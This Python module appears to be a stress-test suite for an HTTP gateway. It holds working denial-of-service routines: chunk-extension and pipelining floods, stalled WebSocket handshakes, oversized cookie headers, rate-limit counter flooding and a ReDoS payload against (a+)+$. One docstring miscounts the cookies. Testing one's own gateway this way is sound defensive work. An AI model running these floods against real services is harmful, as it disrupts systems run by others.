"""Many requests that are each allowed, and cost the gateway more than their sender."""
import base64, os, secrets

from attacks.attack import attack

SMALL_BUFFER = 4096
HOST = b"Host: chaos\r\n"
GET = b"GET /good/x HTTP/1.1\r\n" + HOST + b"\r\n"
PAUSE = 0.1


async def asking(link, request, path=b"/good/x"):
    """Ten requests a second on one connection, each with a head of its own."""
    await link.connect()
    while True:
        await link.send(b"GET " + path + b" HTTP/1.1\r\n" + HOST + request() + b"\r\n")
        link.statuses(await link.receive())
        await link.rest(PAUSE)


@attack(connections=10, pace=5)
async def floods_chunk_extensions(link):
    """chunks of a byte, each with a kilobyte of extension"""
    await link.connect()
    await link.send(b"POST /good/x HTTP/1.1\r\n" + HOST + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        await link.send(b"1;" + b"a" * 1000 + b"\r\nx\r\n")
        await link.rest(PAUSE / 2)


@attack(connections=20, pace=5)
async def floods_pipelines(link):
    """pipelined requests whose answers are never read"""
    await link.connect(receive_buffer=SMALL_BUFFER)
    for _ in range(20):
        await link.send(GET * 50)
        await link.rest(PAUSE)
    await link.unread()


@attack(connections=20, pace=5)
async def floods_large_pipelines(link):
    """pipelined requests for large answers that are never read"""
    await link.connect(receive_buffer=SMALL_BUFFER)
    await link.send(b"GET /large HTTP/1.1\r\n" + HOST + b"\r\n" + GET * 400)
    await link.unread()


@attack(connections=40, pace=10)
async def floods_handshakes(link):
    """handshakes of WebSockets that their upstream never answers"""
    await link.connect()
    await link.send(handshake(b"/silent"))
    await link.until_closed()


@attack(connections=100, pace=20)
async def floods_sockets(link):
    """WebSockets that are opened and left"""
    await link.connect()
    await link.send(handshake(b"/socket"))
    await link.until_closed()


def handshake(path):
    key = base64.b64encode(os.urandom(16))
    return (b"GET " + path + b" HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            b"Sec-WebSocket-Key: " + key + b"\r\n\r\n")


@attack(connections=10, pace=5)
async def floods_cookies(link):
    """requests with three thousand cookies each"""
    line = b"Cookie: " + b"; ".join(b"c%d=%d" % (number, number) for number in range(2000)) + b"\r\n"
    await asking(link, lambda: line)


@attack(connections=20, pace=5)
async def floods_keys(link):
    """API keys that nobody has"""
    await asking(link, lambda: b"X-API-Key: " + secrets.token_hex(32).encode() + b"\r\n", b"/keyed")


@attack(connections=30, pace=5)
async def floods_counters(link):
    """limits counted by a header, with a value of 64 characters for each request"""
    await asking(link, lambda: b"X-User: " + secrets.token_hex(32).encode() + b"\r\n", b"/counted")


@attack(connections=5, pace=5)
async def floods_patterns(link):
    """15 KB of the letter a against the pattern (a+)+$"""
    await asking(link, lambda: b"", b"/patterns/" + b"a" * 15_000 + b"!")


@attack(connections=10, pace=50)
async def floods_connects(link):
    """connections that close at once"""
    await link.connect()
